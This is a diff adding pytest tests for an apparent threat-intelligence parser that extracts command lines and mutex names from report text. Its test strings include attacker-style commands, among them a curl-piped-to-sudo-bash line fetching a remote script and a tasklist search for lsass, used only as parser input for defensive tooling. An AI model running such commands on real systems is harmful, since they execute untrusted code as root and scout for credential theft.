@@ -462,3 +462,30 @@ def test_a_folder_of_macos_may_have_a_space_in_its_name() -> None:
         assert found.value == path
     [plain] = find_observables("In /Library/Application the path ends.")
     assert plain.value == "/Library/Application"
+
+
+@pytest.mark.parametrize(
+    ("text", "commands"),
+    [
+        ("a1 | Setup.exe | Win32/Agent.RUI", []),
+        ("T1059 | cmd.exe /c whoami | 2021-01-02", ["cmd.exe /c whoami"]),
+        ("x: tasklist | findstr lsass", ["tasklist | findstr lsass"]),
+        ("Get-Process | Where-Object {$_.Id}", ["Get-Process | Where-Object {$_.Id}"]),
+        ('reg query HKLM\\Run | find "x | y"', ['reg query HKLM\\Run | find "x | y"']),
+        ("curl http://x.com/a.sh | sudo bash", ["curl http://x.com/a.sh | sudo bash"]),
+    ],
+)
+def test_a_command_ends_with_its_cell_and_not_with_its_pipe(text: str, commands: list[str]) -> None:
+    assert [
+        one.value for one in find_observables(text) if one.kind is Kind.COMMAND_LINE
+    ] == commands
+
+
+def test_the_lines_below_a_heading_of_mutexes_are_mutexes() -> None:
+    listed = "{531511FA-190D-5D85-8A4A-279F2F592CC7}"
+    text = f"Mutex\n\n- {listed}\n- Global\\abc_12\n\nServers\n\n- a1.example.com\n"
+    found = [one for one in find_observables(text) if one.kind is Kind.MUTEX]
+    assert [one.value for one in found] == [listed, "Global\\abc_12"]
+    assert [text[one.start : one.end] for one in found] == [listed, "Global\\abc_12"]
+    prose = "A mutex\nis made by it.\n\nMutexes\n\nThey are explained below."
+    assert not [one for one in find_observables(prose) if one.kind is Kind.MUTEX]
